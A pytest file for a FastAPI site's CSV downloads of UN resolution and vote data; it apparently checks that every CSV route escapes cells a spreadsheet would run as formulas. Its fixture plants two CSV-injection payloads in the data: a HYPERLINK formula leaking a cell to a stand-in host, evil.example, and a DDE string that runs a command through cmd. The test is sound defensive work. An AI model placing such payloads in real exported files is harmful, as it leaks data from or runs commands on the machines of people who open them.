"""Every CSV the site serves goes through the one writer (app/kit/csv.py): no cell a spreadsheet would
run as a formula, whatever the data holds.

The test finds the CSV routes in the application itself, so a new one (a download page, say) fails
``test_every_csv_route_is_walked`` until it is given a sample URL below, and then is walked like the
others. Before the writer was shared, /countries/{code}.csv wrote titles and names as they were."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi import FastAPI
from fastapi.routing import iter_route_contexts
from sqlalchemy import select, update
from sqlalchemy.orm import Session
from starlette.testclient import TestClient

from app.kit.csv import FORMULA_START
from app.models import Resolution, Series, StateName

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"

# A URL for each CSV route, and whether the file carries text from the data (titles, names) or only
# figures (whose cells are checked all the same).
SAMPLES: dict[str, tuple[str, bool]] = {
    "/resolutions.csv": ("/resolutions.csv?session=ES-10", True),
    "/votes/{decision_id:int}.csv": ("/votes/{vote}.csv", True),
    "/votes/{decision_id:int}/groups.csv": ("/votes/{vote}/groups.csv", False),
    "/resolutions/{symbol:path}/groups.csv": ("/resolutions/A/RES/ES-10/24/groups.csv", False),
    "/resolutions/{symbol:path}.csv": ("/resolutions/A/RES/ES-10/24.csv", True),
    "/countries/{code}.csv": ("/countries/USA.csv?q=ES-10", True),
    "/countries/{code}/years.csv": ("/countries/USA/years.csv?peer=ISR", False),
    "/compare.csv": ("/compare.csv?a=USA&b=ISR", False),
    "/series/{slug}.csv": ("/series/{series}.csv", True),
    "/trends.csv": ("/trends.csv", False),
    "/differences.csv": ("/differences.csv?kind=count", True),
    # Current names, from the state table (the fixture poisons the dated names).
    "/ideal-points.csv": ("/ideal-points.csv?country=USA", False),
    "/countries/{code}/ideal-points.csv": ("/countries/USA/ideal-points.csv", False),
}


def csv_routes(app: FastAPI) -> set[str]:
    return {
        str(route.path)
        for route in iter_route_contexts(app.routes)
        if route.path and str(route.path).endswith(".csv")
    }


def test_every_csv_route_is_walked(client: TestClient) -> None:
    assert isinstance(client.app, FastAPI)
    assert csv_routes(client.app) == set(SAMPLES)


@pytest.fixture
def poisoned(db: Session) -> dict[str, str]:
    """Every title and every state name made a formula, in the test's transaction."""
    db.execute(update(Resolution).values(title=TITLE, description=TITLE, agenda_title=TITLE))
    db.execute(update(StateName).values(name=NAME))
    db.execute(update(Series).values(title=TITLE))
    db.flush()
    vote = db.scalar(select(Resolution.id).where(Resolution.symbol == "A/RES/ES-10/24"))
    series = db.scalar(select(Series.slug).order_by(Series.id).limit(1))
    return {"vote": str(vote), "series": str(series)}


@pytest.mark.parametrize("route", sorted(SAMPLES))
def test_no_cell_can_run_as_a_formula(client: TestClient, poisoned: dict[str, str], route: str) -> None:
    url, carries_text = SAMPLES[route]
    response = client.get(url.format(**poisoned))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    rows = list(csv.reader(io.StringIO(response.text)))
    assert len(rows) > 1
    cells = [c for row in rows for c in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_START) and not _number(c)]
    assert dangerous == []
    if carries_text:  # the payload reached the file, defused
        assert any(c in ("'" + TITLE, "'" + NAME) for c in cells), rows[:3]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
